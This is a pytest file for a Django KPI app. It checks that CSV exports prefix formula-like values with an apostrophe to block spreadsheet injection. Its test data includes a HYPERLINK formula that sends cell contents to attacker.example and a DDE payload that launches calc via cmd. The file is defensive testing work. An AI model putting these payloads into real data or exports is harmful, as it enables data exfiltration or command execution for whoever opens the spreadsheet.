"""
Values a data source or an owner typed that a spreadsheet would run as formulas come out of every CSV export as
text: the evidence CSV of /api/metrics/kpis/ and `kpi audit-export` write them with a leading apostrophe.
"""
import csv
import datetime
import io

import pytest
from django.contrib.auth.models import Permission
from django.core.management import call_command

from companyos.csv_export import spreadsheet_safe
from kpis import roles
from tests.companyos.factories import UserFactory
from tests.helpers import client_for, member_of
from tests.kpis.factories import KpiDefinitionFactory
from tests.tenancy.factories import CompanyFactory

HYPERLINK = '=HYPERLINK("http://attacker.example/?"&A1,"Click")'


@pytest.fixture
def source(db):
    CompanyFactory(slug="comp-acme")
    user = UserFactory(is_staff=False)
    user.user_permissions.add(*Permission.objects.filter(codename__in=["add_alert", "add_incident"]))
    return client_for(user)


@pytest.mark.parametrize("value, written", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("web-1", "web-1"), ("", ""), (-5, -5), (2.5, 2.5), (None, None),
])
def test_only_text_that_starts_like_a_formula_is_prefixed(value, written):
    assert spreadsheet_safe(value) == written


def test_the_evidence_csv_writes_formulas_from_alerts_and_incidents_as_text(source, superuser):
    alert = {"company": "comp-acme", "asset": HYPERLINK, "signature": "@cmd|' /C calc'!A0", "severity": "high",
             "issued_at": "2024-01-15T10:00:00Z", "source": "cloudwatch", "external_id": "+cw-1"}
    assert source.post("/api/alerts/", [alert, {**alert, "asset": "web-1", "external_id": "cw-2"}], format="json").status_code == 201
    incident = {"company": "comp-acme", "external_id": "-PD-1", "title": "x", "severity": "P2", "status": "resolved",
                "detected_at": "2024-01-15T09:00:00Z", "resolved_at": "2024-01-15T10:00:00Z", "runbook_id": "=cmd"}
    assert source.post("/api/incidents/", incident, format="json").status_code == 201

    response = client_for(superuser).get(
        "/api/metrics/kpis/", {"company_id": "comp-acme", "until": "2024-01-16T00:00:00Z", "format": "csv"}
    )

    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    alerts = {row["external_id"]: row for row in rows if row["record"] == "alert"}
    assert alerts["'+cw-1"]["asset"] == "'" + HYPERLINK
    assert alerts["'+cw-1"]["signature"] == "'@cmd|' /C calc'!A0"
    assert alerts["cw-2"]["asset"] == "web-1"
    [resolved] = [row for row in rows if row["record"] == "incident"]
    assert (resolved["external_id"], resolved["runbook_id"], resolved["resolution_minutes"]) == ("'-PD-1", "'=cmd", "60.0")


def test_the_audit_export_writes_a_formula_in_a_reason_or_value_as_text(db):
    owner = member_of(roles.KPI_OWNERS, "alice")
    KpiDefinitionFactory(slug="nps", owner=owner, description="Net promoter score")
    response = client_for(owner).patch(
        "/api/kpis/nps/", {"description": "+cmd", "change_reason": HYPERLINK}, format="json"
    )
    assert response.status_code == 200, response.json()
    out = io.StringIO()

    call_command("kpi", "audit-export", "--since", datetime.date.today().isoformat(), "--format", "csv", stdout=out)

    rows = csv.DictReader(io.StringIO(out.getvalue()))
    [change] = [row for row in rows if (row["slug"], row["version"], row["field"]) == ("nps", "2", "description")]
    assert (change["reason"], change["old"], change["new"]) == ("'" + HYPERLINK, "Net promoter score", "'+cmd")
